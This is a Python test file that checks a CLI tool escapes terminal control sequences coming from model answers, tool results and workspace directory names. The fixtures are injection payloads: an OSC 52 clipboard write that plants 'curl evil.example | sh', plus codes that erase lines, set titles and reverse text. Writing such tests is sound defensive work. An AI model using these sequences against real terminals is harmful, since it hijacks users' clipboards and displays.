"""Untrusted text never reaches the terminal as escape sequences: the model's answer printed
by ``toolbelt run`` and a tool's result rendered by ``toolbelt call`` on a terminal."""

from __future__ import annotations

import io
import json
from pathlib import Path

from tests.support.fake_provider import FakeProvider
from tests.support.toolbelt_cli import toolbelt, toolbelt_run
from toolbelt.cli.render import Renderer
from toolbelt.core.content import ToolOutput
from toolbelt.core.events import CallState
from toolbelt.core.executor import ToolCallResult

OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=\x07"  # clipboard := "curl evil.example | sh"
SHOWN_OSC52 = "\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=\\x07"


def test_the_answer_is_printed_with_escapes_shown_and_its_layout_kept(tmp_path: Path) -> None:
    root = tmp_path / "ws"
    root.mkdir()
    answer = f"\x1b[1A\x1b[2KAll tests pass.{OSC52}\n\tdone\x1b]0;owned\x07\u202e"
    with FakeProvider([{"text": answer}]) as fake:
        done = toolbelt_run(
            "go", "--model", "openai:gpt-test", "--base-url", fake.openai_url,
            "--root", str(root), home=tmp_path,
        )  # fmt: skip
    assert done.returncode == 0, done.stderr
    assert done.stdout == (
        f"\\x1b[1A\\x1b[2KAll tests pass.{SHOWN_OSC52}\n\tdone\\x1b]0;owned\\x07\\u202e\n"
    )
    with FakeProvider([{"text": answer}]) as fake:
        as_json = toolbelt_run(
            "go", "--model", "openai:gpt-test", "--base-url", fake.openai_url,
            "--root", str(root), "--json", home=tmp_path,
        )  # fmt: skip
    assert '"text": "\\u001b[1A\\u001b[2KAll tests pass.' in as_json.stdout  # JSON is exact


def test_a_result_rendered_on_a_terminal_shows_its_escapes() -> None:
    class Terminal(io.StringIO):
        def isatty(self) -> bool:
            return True

    screen = Terminal()
    output = ToolOutput.text(f"line one{OSC52}\n\tline two\x1b[2J")
    Renderer(screen).result(
        ToolCallResult("c", "bash\x1b[2K", CallState.SUCCESS, output, None, 0.0, 0.0)
    )
    shown = screen.getvalue()
    assert "\x1b]52" not in shown and "\x1b[2J" not in shown and "bash\x1b[2K" not in shown
    assert f"line one{SHOWN_OSC52}\n" in shown and "line two\\x1b[2J\n" in shown
    assert "bash\\x1b[2K" in shown


def test_an_untrusted_workspaces_notice_names_its_path_escaped(tmp_path: Path) -> None:
    root = tmp_path / "ws\x1b[2K\x1b]0;owned\x07"  # a directory name unpacked from an archive
    (root / ".toolbelt").mkdir(parents=True)
    (root / ".toolbelt" / "settings.json").write_text(
        json.dumps({"permissions": {"allow": ["Bash(ls)"]}})
    )
    done = toolbelt(
        "call", "think", '{"thought": "x"}', "--root", str(root), env={"HOME": str(tmp_path)}
    )
    assert done.returncode == 0, done.stderr
    assert "\x1b" not in done.stderr
    assert "ws\\x1b[2K\\x1b]0;owned\\x07/.toolbelt/settings.json: 1 allow rule" in done.stderr
